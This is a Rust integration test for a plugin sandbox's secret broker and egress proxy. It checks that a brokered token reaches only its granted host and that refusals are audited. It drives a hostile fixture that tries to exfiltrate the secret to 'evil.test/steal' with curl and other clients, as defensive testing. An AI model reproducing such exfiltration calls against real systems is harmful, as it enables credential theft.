//! Brokered secrets and request rules end to end (issue 50): a hostile server
//! (`tests/fixtures/hostile/broker-exfil`) holding a brokered secret dumps what it holds and
//! sends it with four real clients (Python's urllib, curl, Node 22's fetch, git) to its
//! brokered host, to another granted host and to an ungranted one, through TLS its egress
//! proxy terminates. A loopback origin (`tests/fixtures/egress/origin.py`) records what
//! reached it: the real value arrives at the brokered host only.

use crate::common;
use crate::sandbox::FakeHome;
use common::{ok, text};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Child;

const VALUE: &str = "real-secret-value-7d41c9";

/// A loopback origin on TLS, its certificate signed by a test CA of its own for every name
/// the test asks for.
struct Origin {
    child: Child,
    port: u16,
    log: PathBuf,
    /// The test CA, PEM: the proxy's origin roots (`YEP_EGRESS_ROOTS`).
    ca: PathBuf,
}

impl Drop for Origin {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Origin {
    fn start(dir: &Path, root: &Path) -> Origin {
        let ca_key = rcgen::KeyPair::generate().unwrap();
        let mut ca_params = rcgen::CertificateParams::default();
        // Names of their own: OpenSSL takes a certificate whose issuer is its own subject
        // for a self-signed one.
        ca_params.distinguished_name = rcgen::DistinguishedName::new();
        ca_params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "yep test origin CA");
        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        let ca_cert = ca_params.self_signed(&ca_key).unwrap();
        let issuer = rcgen::Issuer::new(ca_params, ca_key);
        let key = rcgen::KeyPair::generate().unwrap();
        let names = ["api.test", "other.test", "evil.test", "rules.test"];
        let mut params = rcgen::CertificateParams::new(names.map(String::from).to_vec()).unwrap();
        params.distinguished_name = rcgen::DistinguishedName::new();
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "yep test origin");
        let cert = params.signed_by(&key, &issuer).unwrap();
        let (ca, cert_path, key_path) = (
            dir.join("origin-ca.pem"),
            dir.join("origin.pem"),
            dir.join("origin.key"),
        );
        std::fs::write(&ca, ca_cert.pem()).unwrap();
        std::fs::write(&cert_path, cert.pem()).unwrap();
        std::fs::write(&key_path, key.serialize_pem()).unwrap();
        let (port_file, log) = (dir.join("origin.port"), dir.join("origin.log"));
        let script =
            Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/egress/origin.py");
        #[allow(clippy::disallowed_methods)] // a test's own loopback server, not a package
        let child = std::process::Command::new("python3")
            .arg(script)
            .args(["--port-file", port_file.to_str().unwrap()])
            .args(["--log", log.to_str().unwrap()])
            .args(["--root", root.to_str().unwrap()])
            .args(["--cert", cert_path.to_str().unwrap()])
            .args(["--key", key_path.to_str().unwrap()])
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        let port = loop {
            if let Ok(port) = std::fs::read_to_string(&port_file) {
                break port.trim().parse().unwrap();
            }
            assert!(
                std::time::Instant::now() < deadline,
                "the origin never started"
            );
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        Origin {
            child,
            port,
            log,
            ca,
        }
    }

    /// Every request that reached it.
    fn seen(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

/// A bare git repository in `root/repo.git` with one commit, served over git's dumb HTTP.
fn bare_repo(root: &Path) {
    let work = root.join("work");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(work.join("README"), "brokered clone\n").unwrap();
    common::git(&work, &["init", "-q", "-b", "main"]);
    common::git(&work, &["add", "README"]);
    common::git(&work, &["commit", "-q", "-m", "one"]);
    let bare = root.join("repo.git");
    common::git(
        root,
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            bare.to_str().unwrap(),
        ],
    );
    common::git(&bare, &["update-server-info"]);
}

/// The hostile fixture, granted the origin's names on its port (and `rules.test` with a
/// request rule only), and read access to the Node it runs.
fn package(dir: &Path, port: u16, node_prefix: &Path) -> PathBuf {
    let from =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/hostile/broker-exfil");
    let pkg = dir.join("broker-exfil");
    std::fs::create_dir_all(pkg.join("bin")).unwrap();
    // `fs::copy` keeps the launcher's mode.
    for file in ["plugin.json", "server.py", "bin/server"] {
        std::fs::copy(from.join(file), pkg.join(file)).unwrap();
    }
    let manifest_path = pkg.join("plugin.json");
    let mut manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(&manifest_path).unwrap()).unwrap();
    manifest["sandbox"] = json!({
        "net": [
            format!("api.test:{port}"),
            format!("other.test:{port}"),
            format!("rules.test:{port} GET /allowed/"),
            "private",
        ],
        "read": [node_prefix],
    });
    std::fs::write(&manifest_path, manifest.to_string()).unwrap();
    pkg
}

/// Run `calls` (`tool args` each) in one session; each call's result, and all it printed.
fn session(fake: &FakeHome, origin: &Origin, calls: &[(&str, Value)]) -> (Vec<Value>, String) {
    let mut input = String::new();
    for (tool, args) in calls {
        input.push_str(&format!("call {tool} {args}\n"));
    }
    input.push_str("quit\n");
    let hosts = "api.test=127.0.0.1,other.test=127.0.0.1,evil.test=127.0.0.1,rules.test=127.0.0.1";
    let out = fake.yep_with(
        &["session", "--json"],
        &input,
        &[
            ("YEP_SANDBOX", "required"),
            ("YEP_EGRESS_HOSTS", hosts),
            ("YEP_EGRESS_ROOTS", origin.ca.to_str().unwrap()),
            // The system's roots as the host reads them, which a sandboxed client's trust
            // variables start from: so a client can verify the origin where the proxy does
            // not terminate TLS (the other granted host).
            ("SSL_CERT_FILE", origin.ca.to_str().unwrap()),
        ],
    );
    let said = format!("{}\n{}", text(&out.stdout), text(&out.stderr));
    let results: Vec<Value> = text(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter_map(|l| l.get("result").cloned())
        .collect();
    assert_eq!(results.len(), calls.len(), "{said}");
    (results, said)
}

/// The `Authorization` values that reached the origin for `host`.
fn authorizations(seen: &[Value], host: &str) -> Vec<String> {
    seen.iter()
        .filter(|r| r["host"].as_str().is_some_and(|h| h.starts_with(host)))
        .flat_map(|r| r["headers"].as_array().cloned().unwrap_or_default())
        .filter(|h| {
            h[0].as_str()
                .is_some_and(|k| k.eq_ignore_ascii_case("authorization"))
        })
        .map(|h| h[1].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn a_brokered_secret_reaches_its_host_only_with_every_real_client() {
    let node_bin = std::env::var_os("YEP_NODE22_BIN")
        .map(PathBuf::from)
        .expect("run through scripts/test, which installs Node 22 (its fetch reads HTTPS_PROXY)");
    let node_prefix = node_bin.parent().unwrap().canonicalize().unwrap();
    let fake = FakeHome::new();
    let root = fake.tmp.path().join("served");
    bare_repo(&root);
    let origin = Origin::start(fake.tmp.path(), &root);
    let port = origin.port;
    let pkg = package(fake.tmp.path(), port, &node_prefix);
    ok(&fake.yep(&["install", pkg.to_str().unwrap(), "--yes"], ""));
    ok(&fake.yep(&["enable", "broker-exfil"], ""));
    let api = format!("api.test:{port}");
    let stored = ok(&fake.yep(
        &["secret", "set", "broker-exfil", "token", "--for", &api],
        &format!("{VALUE}\n"),
    ));
    assert!(stored.contains(&format!("brokered: broker-exfil holds a placeholder; its egress proxy puts the value into requests to {api}")), "{stored}");
    let shown = ok(&fake.yep(&["config", "show", "broker-exfil"], ""));
    assert!(
        shown.contains(&format!("token = (secret, set, brokered: only to {api})")),
        "{shown}"
    );

    let node = node_bin.join("node");
    let fetch = |client: &str, url: String| json!({"client": client, "url": url, "node": node.to_str().unwrap()});
    let calls = [
        ("env", json!({})),
        ("fetch", fetch("python", format!("https://{api}/python"))),
        ("fetch", fetch("curl", format!("https://{api}/curl"))),
        ("fetch", fetch("node", format!("https://{api}/node"))),
        ("fetch", fetch("git", format!("https://{api}/repo.git"))),
        // Another granted host: over HTTPS the placeholder is all it can carry; over plain
        // HTTP the proxy sees it and refuses.
        (
            "fetch",
            fetch("python", format!("https://other.test:{port}/tls")),
        ),
        (
            "fetch",
            fetch("python", format!("http://other.test:{port}/plain")),
        ),
        // An ungranted host.
        (
            "fetch",
            fetch("curl", format!("https://evil.test:{port}/steal")),
        ),
    ];
    let (results, said) = session(&fake, &origin, &calls);

    // What the process holds: the placeholder, in its environ and its /proc/self/environ.
    let env = &results[0];
    let held = env["environ"]["TOKEN"].as_str().unwrap();
    assert!(held.starts_with("yep_ph_") && held.len() == 39, "{env:#}");
    assert!(!env.to_string().contains(VALUE), "{env:#}");
    assert!(
        env["proc"]
            .as_str()
            .unwrap()
            .contains(&format!("TOKEN={held}"))
    );
    assert!(
        env["environ"]["SSL_CERT_FILE"].as_str().is_some(),
        "{env:#}"
    );
    assert_eq!(env["environ"]["NODE_USE_ENV_PROXY"], "1", "{env:#}");

    // Each client reached the brokered host through terminated TLS.
    assert_eq!(results[1]["status"], 200, "python: {:#}", results[1]);
    assert!(
        results[2]["stdout"]
            .as_str()
            .unwrap()
            .contains("origin saw /curl"),
        "curl: {:#}",
        results[2]
    );
    assert!(
        results[3]["stdout"]
            .as_str()
            .unwrap()
            .contains("200 origin saw /node"),
        "node: {:#}",
        results[3]
    );
    assert_eq!(results[4]["exit"], 0, "git: {:#}", results[4]);
    assert!(
        results[4]["files"]
            .as_array()
            .unwrap()
            .contains(&json!("README")),
        "git: {:#}",
        results[4]
    );

    let seen = origin.seen();
    let at_api = authorizations(&seen, "api.test");
    // python, curl, node, and git's requests for the clone.
    assert!(at_api.len() >= 4, "{seen:#?}");
    assert!(
        at_api.iter().all(|a| a == &format!("Bearer {VALUE}")),
        "{at_api:?}"
    );
    let at_other = authorizations(&seen, "other.test");
    assert_eq!(at_other, [format!("Bearer {held}")], "{:#}", results[5]);
    assert!(authorizations(&seen, "evil.test").is_empty(), "{seen:#?}");
    assert!(!seen.iter().any(|r| r["path"] == "/plain"), "{seen:#?}");

    assert_eq!(results[6]["status"], 403, "{:#}", results[6]);
    assert!(
        results[6]["stdout"]
            .as_str()
            .unwrap()
            .contains("carries the placeholder of the brokered secret `token`"),
        "{:#}",
        results[6]
    );
    assert_ne!(results[7]["exit"], 0, "{:#}", results[7]);
    // Both refusals are told as the sandbox's.
    assert!(
        said.contains(
            "carries the placeholder of the brokered secret `token`, which belongs to other hosts"
        ),
        "{said}"
    );
    assert!(
        said.contains(&format!("`yep grant broker-exfil net:evil.test:{port}`")),
        "{said}"
    );

    // The audit trail has each decision: the call, the injection (the secret's name and
    // host), the egress let through and refused, and the denial.
    let audit = ok(&fake.yep(&["audit", "--json"], ""));
    let records: Vec<Value> = audit
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let has = |pred: &dyn Fn(&Value) -> bool| records.iter().any(pred);
    assert!(
        has(&|r| r["kind"] == "tool" && r["tool"] == "fetch"),
        "{audit}"
    );
    assert!(
        has(&|r| r["kind"] == "injection" && r["host"] == "api.test" && r["secret"] == "token"),
        "{audit}"
    );
    assert!(
        has(&|r| r["kind"] == "egress"
            && r["host"] == "api.test"
            && r["allowed"] == true
            && r["path"] == "/python"
            && r["rule"] == format!("net:{api}")),
        "{audit}"
    );
    assert!(
        has(&|r| r["kind"] == "egress"
            && r["host"] == "other.test"
            && r["allowed"] == false
            && r["rule"] == "placeholder of token"),
        "{audit}"
    );
    assert!(
        has(&|r| r["kind"] == "egress" && r["host"] == "evil.test" && r["allowed"] == false),
        "{audit}"
    );
    assert!(has(&|r| r["kind"] == "sandbox_denied"), "{audit}");
    // The value is in connections.toml and nowhere else of the home (logs, settings, lock,
    // the audit trail), and never in what yep printed.
    assert!(!said.contains(VALUE), "{said}");
    for file in walk(&fake.yep_home()) {
        let body = std::fs::read(&file).unwrap_or_default();
        let holds = String::from_utf8_lossy(&body).contains(VALUE);
        let connections = file.file_name().is_some_and(|n| n == "connections.toml");
        assert_eq!(holds, connections, "{}", file.display());
    }
}

#[test]
fn request_rules_refuse_other_methods_and_paths_inside_terminated_tls() {
    let fake = FakeHome::new();
    let root = fake.tmp.path().join("served");
    std::fs::create_dir_all(&root).unwrap();
    let origin = Origin::start(fake.tmp.path(), &root);
    let port = origin.port;
    let pkg = package(fake.tmp.path(), port, Path::new("/usr"));
    ok(&fake.yep(&["install", pkg.to_str().unwrap(), "--yes"], ""));
    ok(&fake.yep(&["enable", "broker-exfil"], ""));
    let rules = format!("rules.test:{port}");
    let fetch = |method: &str, path: &str| json!({"client": "python", "method": method, "url": format!("https://{rules}{path}")});
    let (results, said) = session(
        &fake,
        &origin,
        &[
            ("fetch", fetch("GET", "/allowed/one")),
            ("fetch", fetch("POST", "/allowed/one")),
            ("fetch", fetch("GET", "/other")),
            ("fetch", fetch("GET", "/allowed/../other")),
        ],
    );
    assert_eq!(results[0]["status"], 200, "{:#}", results[0]);
    for refused in &results[1..] {
        assert_eq!(refused["status"], 403, "{refused:#}");
        let body = refused["stdout"].as_str().unwrap();
        assert!(body.contains(&format!("`{rules} GET /allowed/`")), "{body}");
    }
    let paths: Vec<Value> = origin.seen().iter().map(|r| r["path"].clone()).collect();
    assert_eq!(paths, [json!("/allowed/one")]);
    assert!(
        said.contains(&format!("'net:{rules} POST /allowed/one'")),
        "the refusal names the grant that would allow it: {said}"
    );
}

/// Every regular file under `dir`.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        match entry.file_type() {
            Ok(t) if t.is_dir() => out.extend(walk(&path)),
            Ok(t) if t.is_file() => out.push(path),
            _ => {}
        }
    }
    out
}

#[test]
fn a_home_mcp_servers_environment_value_can_be_brokered_and_shows_nowhere() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("yep");
    ok(&common::yep(
        &home,
        &[
            "mcp",
            "add",
            "gh",
            "--keep",
            "--env",
            "GITHUB_TOKEN=first-value",
            "--",
            "true",
        ],
    ));
    let stored = ok(&common::yep_with_stdin(
        &home,
        &[
            "secret",
            "set",
            "gh",
            "GITHUB_TOKEN",
            "--for",
            "api.github.com",
            "--header",
            "Authorization",
            "--format",
            "Bearer {}",
            "--json",
        ],
        &format!("{VALUE}\n"),
    ));
    let stored: Value = serde_json::from_str(stored.trim()).unwrap();
    assert_eq!(
        stored["brokered"]["hosts"],
        json!(["api.github.com"]),
        "{stored}"
    );
    let connections = std::fs::read_to_string(home.join("connections.toml")).unwrap();
    assert!(connections.contains(VALUE) && !connections.contains("first-value"));
    // What lists servers never shows it.
    let listed = ok(&common::yep(&home, &["mcp", "list", "--json"]));
    assert!(!listed.contains(VALUE), "{listed}");
    // A variable the server does not declare is refused, and nothing is stored.
    let refused = common::yep_with_stdin(
        &home,
        &["secret", "set", "gh", "OTHER", "--for", "api.github.com"],
        "x\n",
    );
    assert!(!refused.status.success());
    assert!(
        text(&refused.stderr).contains("has no environment variable `OTHER`"),
        "{}",
        text(&refused.stderr)
    );
}
